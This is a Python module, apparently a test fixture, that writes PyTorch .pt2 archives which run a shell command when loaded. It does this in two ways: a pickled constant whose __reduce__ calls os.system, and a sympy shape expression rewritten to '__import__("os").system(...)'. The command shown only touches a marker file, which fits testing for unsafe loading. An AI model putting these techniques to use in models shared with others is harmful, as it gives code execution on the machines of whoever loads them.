"""Programs that run a command of their own when torch loads them."""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

__all__ = ["KINDS", "evil"]


class Adding(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.one = torch.ones(3)  # a constant, which an archive may hold pickled

    def forward(self, x: Any, y: Any) -> Any:
        return x + y + self.one


class _Command:
    """Unpickling it runs a command."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> Any:
        return os.system, (self._command,)


def evil(path: Path, marker: Path, kind: str) -> Path:
    """A ``.pt2`` that creates a file when it is loaded.

    Args:
        path: where it is written.
        marker: what it creates.
        kind: where in the archive its command stands.
    """
    n = torch.export.Dim("n", min=2, max=99)
    program = torch.export.export(
        Adding(), (torch.ones(4, 3), torch.ones(4, 3)), dynamic_shapes={"x": {0: n}, "y": {0: n}}
    )
    plain = io.BytesIO()
    torch.export.save(program, plain)
    with zipfile.ZipFile(plain) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    changed = KINDS[kind](members, f"touch '{marker}'")
    assert changed
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return path


def _sympy(members: dict[str, bytes], command: str) -> bool:
    """A size that is an expression: torch hands it to sympify, which evaluates it."""
    (name,) = [name for name in members if name.endswith("models/model.json")]
    call = f'__import__("os").system({command!r})'
    document = json.loads(members[name])
    changed = False

    def visit(value: Any) -> None:
        nonlocal changed
        if isinstance(value, dict):
            if "expr_str" in value:
                value["expr_str"], changed = call, True
            for item in value.values():
                visit(item)
        elif isinstance(value, list):
            for item in value:
                visit(item)

    visit(document)
    members[name] = json.dumps(document).encode()
    return changed


def _pickled(members: dict[str, bytes], command: str) -> bool:
    """A constant that the archive says is pickled."""
    (name,) = [name for name in members if name.endswith("constants/model_constants_config.json")]
    document = json.loads(members[name])
    for found in document["config"].values():
        found["use_pickle"] = True
    members[name] = json.dumps(document).encode()
    held = [name for name in members if "/constants/" in name and not name.endswith("_config.json")]
    for one in held:
        members[one] = pickle.dumps(_Command(command))
    return bool(held)


KINDS: dict[str, Callable[[dict[str, bytes], str], bool]] = {"sympy": _sympy, "pickle": _pickled}
